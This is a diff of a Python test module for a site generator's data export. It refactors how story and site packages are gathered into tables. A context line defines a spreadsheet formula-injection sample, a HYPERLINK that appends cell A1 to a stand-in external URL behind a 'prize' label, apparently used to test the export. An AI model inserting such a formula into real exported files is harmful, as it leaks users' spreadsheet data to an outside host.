@@ -11,7 +11,7 @@ from typing import Any
 
 from generator.model import Site
 from generator.publish.data.descriptor import files, files_of
-from generator.publish.data.package import packages
+from generator.publish.data.package import Package, site_package, story_package
 from tests.publish.sample import site
 
 FORMULA = '=HYPERLINK("https://x.example/?"&A1, "prize")'
@@ -35,11 +35,16 @@ ODD = (
 )
 
 
+def packages(whole: Site) -> tuple[Package, ...]:
+    """The package of each story, and that of what belongs to none."""
+    return (*(story_package(whole, each) for each in whole.stories), site_package(whole))
+
+
 def tables(whole: Site) -> dict[PurePosixPath, str]:
     """Every file of the data."""
-    found = tuple(packages(whole))
+    found = packages(whole)
     own = [files_of(whole, package) for package in found]
-    return {path: text for part in (*own, files(whole, found)) for path, text in part.items()}
+    return {path: text for part in (*own, files(whole, found[-1])) for path, text in part.items()}
 
 
 def written(whole: Site, root: Path) -> Path:
